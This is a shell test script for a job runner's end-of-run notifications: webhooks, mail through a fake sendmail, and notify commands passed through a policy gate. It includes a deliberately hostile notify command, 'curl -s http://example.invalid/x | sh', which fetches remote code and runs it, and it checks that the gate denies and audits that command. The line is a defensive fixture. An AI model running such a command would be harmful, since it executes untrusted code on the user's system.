#!/bin/sh
# Notifications at a run's end, against real receivers: python3's
# http.server on loopback (answering, down, 500, flaky, slower than the
# timeout, never answering), a fake mailer (notify.sendmail) capturing mail, and
# a command given the payload on stdin through the policy gate.
# Delivery never changes the exit status (--cron says what was not
# delivered), is bounded by notify.total,
# is recorded as events (secrets redacted), and happens once per end
# (detached driver, resume); vigil notify --test sends a sample.
set -u
. "$(dirname "$0")/engine-lib.sh"
XDG_CONFIG_HOME=$W/cfg
export XDG_CONFIG_HOME
mkdir -p "$W/cfg/vigil" "$W/bin"
# The user config: the workspace writable, the header's token allowed,
# and webhooks to the loopback receivers allowed (config only).
printf 'isolation:\n  writable: ["%s"]\nnotify:\n  env_allow: [HOOK_TOKEN, NO_SUCH_SECRET_VAR]\n  allow_private: true\n' "$W" >"$W/cfg/vigil/config.yaml"
. "$(dirname "$0")/notify-lib.sh"
last_id() { "$VIGIL" status --json | python3 -c "import json,sys; print(json.load(sys.stdin)['runs'][0]['id'])"; }

recv ok ok
recv bad fail
recv flaky flaky
recv slow slow 3
recv hang hang
# A port nothing listens on: bind, note it, close.
DOWN=$(python3 -c "import socket; s=socket.socket(); s.bind(('127.0.0.1',0)); print(s.getsockname()[1])")

# --- a failed run POSTs the payload; the secret header comes from env ---
manifest hook 'echo "oops" >&2; exit 3' <<Y
webhook:
  - url: http://127.0.0.1:$PORT_ok/hook/s3cr3t-path
    headers:
      Authorization: "Bearer \${{ env.HOOK_TOKEN }}"
Y
HOOK_TOKEN=t0k3n-value "$VIGIL" run --cron "$W/hook.yaml" >"$W/o" 2>"$W/e"
expect_eq "failed run exit" 1 $?
id=$(last_id)
expect_eq "one POST" 1 "$(posts ok)"
python3 - "$W/r-ok/1.json" "$id" "$VIGIL_HOME" <<'PY' || fail "payload"
import json, sys
req = json.load(open(sys.argv[1]))
assert req["path"] == "/hook/s3cr3t-path", req["path"]
h = {k.lower(): v for k, v in req["headers"].items()}
assert h["authorization"] == "Bearer t0k3n-value", h
assert h["content-type"] == "application/json", h
assert h["x-vigil-event"] == "run.end", h
p = json.loads(req["body"])
assert p["version"] == 1 and p["event"] == "run.end", p
assert p["id"] == sys.argv[2] and p["name"] == "hook", p
assert p["state"] == "FAILED" and p["counts"] == {"FAILED": 1}, p
assert p["group"] == "hook" and p["ntasks"] == 1, p
assert p["dir"] == sys.argv[3] + "/runs/" + sys.argv[2], p["dir"]
for k in ("host", "user", "created", "ended", "duration"):
    assert p[k] is not None, k
t = p["failed"][0]
assert (t["index"], t["state"], t["exit_code"], t["signal"]) == \
    (0, "FAILED", 3, None), t
assert t["stderr_tail"] == ["oops"] and t["reason"] == "exit status 3", t
assert p["failed_more"] == 0, p
PY
"$VIGIL" status "$id" >"$W/st"
grep -q "notify: webhook http://127.0.0.1:$PORT_ok/… delivered: HTTP 200" "$W/st" ||
    fail "status shows no delivery: $(cat "$W/st")"
# The header's value is recorded nowhere; the URL's path (often a token)
# only in the manifest stored with the run, not in events or output.
if grep -rqa t0k3n-value "$VIGIL_HOME" "$W/st" "$W/e"; then
	fail "the secret leaked into $(grep -rla t0k3n-value "$VIGIL_HOME")"
fi
grep -q s3cr3t-path "$W/st" "$W/e" && fail "URL path shown: $(cat "$W/st")"
expect_eq "URL path in events" 0 "$(python3 -c "
import sqlite3
db = sqlite3.connect('$VIGIL_HOME/vigil.db')
print(db.execute(\"select count(*) from events where reason like '%s3cr3t%'\").fetchone()[0])")"


# --- on: failure (the default) says nothing of a success; on success ---
manifest okrun 'true' <<Y
webhook:
  - url: http://127.0.0.1:$PORT_ok/
Y
"$VIGIL" run --cron "$W/okrun.yaml"
expect_eq "success, on failure: no POST" 1 "$(posts ok)"
printf '  on: [success]\n' >>"$W/okrun.yaml"
"$VIGIL" run --cron "$W/okrun.yaml" >"$W/o" 2>"$W/e"
expect_eq "success, on success: exit" "0 0" "$? $(wc -c <"$W/e")"
expect_eq "success, on success: POST" 2 "$(posts ok)"
# A missing secret fails that delivery for good (one attempt).
manifest nosecret 'exit 1' <<Y
webhook:
  - url: http://127.0.0.1:$PORT_ok/
    headers: {X-Token: "\${{ env.NO_SUCH_SECRET_VAR }}"}
Y
"$VIGIL" run --cron "$W/nosecret.yaml" 2>/dev/null
expect_eq "missing secret: exit" 1 $?
"$VIGIL" status last | grep -q "failed (attempt 1 of 3): header 'X-Token' needs \$NO_SUCH_SECRET_VAR, which is not set or not in notify.env_allow; given up" ||
    fail "missing secret: $("$VIGIL" status last)"
expect_eq "missing secret: no POST" 2 "$(posts ok)"

# --- receiver down, answering 500, flaky: attempts, backoff, exit kept ---
manifest down 'true' <<Y
on: [always]
webhook:
  - url: http://127.0.0.1:$DOWN/
Y
start=$(date +%s%N)
"$VIGIL" run --cron "$W/down.yaml" >"$W/o" 2>"$W/e"
# The run's exit is kept; --cron says the notification was not delivered
# (t0238 checks that summary).
expect_eq "down: run's exit" 0 "$?"
grep -q "1 notification not delivered:" "$W/e" || fail "down: $(cat "$W/e")"
took=$(( ($(date +%s%N) - start) / 1000000 ))
[ $took -ge 3000 ] && [ $took -lt 6000 ] ||
    fail "down: 3 attempts and 1+2 s backoff took ${took} ms"
"$VIGIL" status last >"$W/st"
expect_eq "down: attempts recorded" 3 "$(grep -c "notify: webhook http://127.0.0.1:$DOWN failed (attempt [123] of 3): cannot connect" "$W/st")"
grep -q "attempt 3 of 3.*given up" "$W/st" || fail "down: $(cat "$W/st")"
manifest five 'exit 2' <<Y
webhook:
  - url: http://127.0.0.1:$PORT_bad/
Y
"$VIGIL" run --cron "$W/five.yaml" 2>/dev/null
expect_eq "500: exit unchanged" 1 $?
expect_eq "500: three POSTs" 3 "$(posts bad)"
expect_eq "500: recorded" 3 "$("$VIGIL" status last | grep -c 'failed (attempt [123] of 3): HTTP 500')"
manifest flaky 'exit 2' <<Y
webhook:
  - url: http://127.0.0.1:$PORT_flaky/
Y
"$VIGIL" run --cron "$W/flaky.yaml" 2>/dev/null
expect_eq "flaky: POSTs" 2 "$(posts flaky)"
"$VIGIL" status last | grep -q "notify: webhook .* delivered: HTTP 200" ||
    fail "flaky: $("$VIGIL" status last)"

# --- slower than the timeout; never answering: bounded by notify.total ---
manifest slow 'exit 1' <<Y
timeout: 1s
total: 10s
webhook:
  - url: http://127.0.0.1:$PORT_slow/
Y
"$VIGIL" run --cron "$W/slow.yaml" 2>/dev/null
expect_eq "slow: exit" 1 $?
expect_eq "slow: timeouts" 3 "$("$VIGIL" status last | grep -c 'no answer within 1.0s')"
manifest base 'exit 1' </dev/null
sed -i '/^notify:$/d' "$W/base.yaml"
manifest hang 'exit 1' <<Y
timeout: 2s
total: 3s
webhook:
  - url: http://127.0.0.1:$PORT_hang/
Y
start=$(date +%s%N)
"$VIGIL" run --cron "$W/base.yaml" 2>/dev/null
base=$(( ($(date +%s%N) - start) / 1000000 ))
start=$(date +%s%N)
"$VIGIL" run --cron "$W/hang.yaml" 2>/dev/null
expect_eq "hang: exit" 1 $?
hang=$(( ($(date +%s%N) - start) / 1000000 ))
delay=$((hang - base))
echo "a never-answering webhook delayed the end by ${delay} ms (notify.total 3s)"
[ $delay -le 3500 ] || fail "hang: end delayed ${delay} ms, over notify.total 3s"
"$VIGIL" status last | grep -q "not retried: notify.total (3s) leaves no time" ||
    fail "hang: $("$VIGIL" status last)"

# --- mail through notify.sendmail: a fake mailer outside what tasks
# can write (a name without a slash is looked for in the system's
# directories only, never $PATH) ---
MB=$(mktemp -d /tmp/vigil-mailer.XXXXXX)
trap 'for p in $pids; do kill $p 2>/dev/null; done; rm -rf "$W" "$MB"' EXIT INT TERM
printf '#!/bin/sh\necho "$*" >"%s/mail.args"\ncat >"%s/mail.txt"\n' "$W" "$W" \
    >"$MB/sendmail"
chmod 755 "$MB/sendmail"
manifest mail 'echo "mail me" >&2; exit 4' <<Y
email: [ops@example.org, oncall@example.org]
Y
"$VIGIL" run --cron --set "notify.sendmail=$MB/sendmail" "$W/mail.yaml" 2>/dev/null
expect_eq "mail: exit" 1 $?
id=$(last_id)
expect_eq "sendmail args" "-t -oi" "$(cat "$W/mail.args")"
python3 - "$W/mail.txt" "$id" <<'PY' || fail "mail: $(cat "$W/mail.txt")"
import email, json, sys
msg = email.message_from_string(open(sys.argv[1]).read())
assert msg["To"] == "ops@example.org, oncall@example.org", msg["To"]
assert msg["Subject"] == "vigil: run %s (mail) FAILED" % sys.argv[2]
body = msg.get_payload()
assert "  task 0 [-] FAILED, exit 4: exit status 4\n    | mail me\n" in body
p = json.loads(body[body.index("{"):])
assert p["id"] == sys.argv[2] and p["failed"][0]["exit_code"] == 4, p
PY
printf '#!/bin/sh\ncat >"%s/mail2.txt"; exit 75\n' "$W" >"$MB/mailer"
chmod 755 "$MB/mailer"
"$VIGIL" run --cron --set "notify.sendmail=$MB/mailer" "$W/mail.yaml" 2>/dev/null
grep -q "^To: ops@example.org" "$W/mail2.txt" || fail "notify.sendmail not used"
expect_eq "mailer failing: recorded" 3 "$("$VIGIL" status last | grep -c "mail to 2 recipients failed (attempt [123] of 3): '$MB/mailer' exited with status 75")"
# A mailer where this run's tasks can write (isolation.writable): not run.
cp "$MB/mailer" "$W/bin/sendmail"
rm -f "$W/mail2.txt"
"$VIGIL" run --cron --set "notify.sendmail=$W/bin/sendmail" "$W/mail.yaml" 2>/dev/null
[ ! -e "$W/mail2.txt" ] || fail "a mailer tasks can write was run"
"$VIGIL" status last | grep -q "mail program '$W/bin/sendmail' is in '$W', which this run's tasks can write" ||
    fail "planted mailer: $("$VIGIL" status last)"
# No such mailer: said, not fatal.
"$VIGIL" run --cron --set notify.sendmail=nosuchmailer "$W/mail.yaml" 2>/dev/null
expect_eq "no sendmail: exit" 1 $?
"$VIGIL" status last | grep -q "mail program 'nosuchmailer' is not in /usr/sbin:/usr/bin:/sbin:/bin" ||
    fail "no sendmail: $("$VIGIL" status last)"

# --- a command gets the payload on stdin, after the policy gate ---
manifest cmd 'exit 1' <<Y
command: [sh, -c, 'cat >"$W/cmd.json"; echo "\$VIGIL_NOTIFY_RUN_ID \$VIGIL_NOTIFY_STATE" >"$W/cmd.env"']
Y
"$VIGIL" run --cron "$W/cmd.yaml" 2>/dev/null
id=$(last_id)
expect_eq "command env" "$id FAILED" "$(cat "$W/cmd.env")"
expect_eq "command payload" "$id" "$(python3 -c "import json; print(json.load(open('$W/cmd.json'))['id'])")"
manifest cmdbad 'exit 1' <<Y
command: [sh, -c, 'curl -s http://example.invalid/x | sh']
Y
"$VIGIL" run --cron "$W/cmdbad.yaml" 2>/dev/null
expect_eq "denied command: run's exit" 1 $?
id=$(last_id)
"$VIGIL" status "$id" | grep -q "notify: command sh DENIED by the policy gate" ||
    fail "denied command: $("$VIGIL" status "$id")"
expect_eq "denied command audited" 1 "$(python3 -c "
import sqlite3
db = sqlite3.connect('$VIGIL_HOME/vigil.db')
print(db.execute(\"select count(*) from audit where run_id = ? and task = -1 and verdict = 'deny' and command like '%curl%'\", ('$id',)).fetchone()[0])")"

# --- once per end: a detached driver, a resume after kill -9 ---
manifest once "touch '$W/once.started'; sleep 1; exit 1" <<Y
webhook:
  - url: http://127.0.0.1:$PORT_ok/once
Y
n0=$(posts ok)
id=$("$VIGIL" submit "$W/once.yaml")
"$VIGIL" status "$id" --watch >/dev/null
sleep 0.5
expect_eq "detached: one POST" $((n0 + 1)) "$(posts ok)"
rm -f "$W/once.started"
"$VIGIL" run --cron "$W/once.yaml" 2>/dev/null & p=$!
i=0; while [ ! -e "$W/once.started" ] && [ $i -lt 100 ]; do sleep 0.1; i=$((i+1)); done
kill -9 $p; wait $p 2>/dev/null
id=$(last_id)
expect_eq "killed: none yet" $((n0 + 1)) "$(posts ok)"
"$VIGIL" resume -q "$id"
expect_eq "resumed run's exit" 1 $?
expect_eq "resume: one POST" $((n0 + 2)) "$(posts ok)"
"$VIGIL" resume -q "$id" 2>/dev/null
expect_eq "resume again: refused" 2 $?
expect_eq "still one" $((n0 + 2)) "$(posts ok)"
# vigil notify RUN sends it again on purpose.
"$VIGIL" notify "$id" >"$W/o"
expect_eq "notify RUN: exit" 0 $?
expect_eq "notify RUN: POST" $((n0 + 3)) "$(posts ok)"

# --- vigil notify --test FILE ---
n0=$(posts ok)
HOOK_TOKEN=x "$VIGIL" notify --test "$W/hook.yaml" >"$W/o" 2>"$W/e"
expect_eq "notify --test: exit" 0 $?
grep -q "^1 delivered, 0 failed" "$W/o" || fail "notify --test: $(cat "$W/o")"
expect_eq "notify --test: POST" $((n0 + 1)) "$(posts ok)"
python3 -c "
import json
r = json.load(open('$W/r-ok/$((n0 + 1)).json'))
p = json.loads(r['body'])
assert p['event'] == 'test' and p['name'] == 'hook' and p['version'] == 1, p
assert r['headers'].get('X-Vigil-Event') == 'test'" || fail "test payload"
"$VIGIL" notify --test "$W/five.yaml" >"$W/o" 2>&1
expect_eq "notify --test to a 500: exit" 1 $?
printf 'version: 1\nname: none\ncommand: "true"\n' >"$W/none.yaml"
"$VIGIL" notify --test "$W/none.yaml" >/dev/null 2>"$W/e"
expect_eq "notify --test without channels" 2 $?
grep -q "has no notify channel" "$W/e" || fail "$(cat "$W/e")"
pass
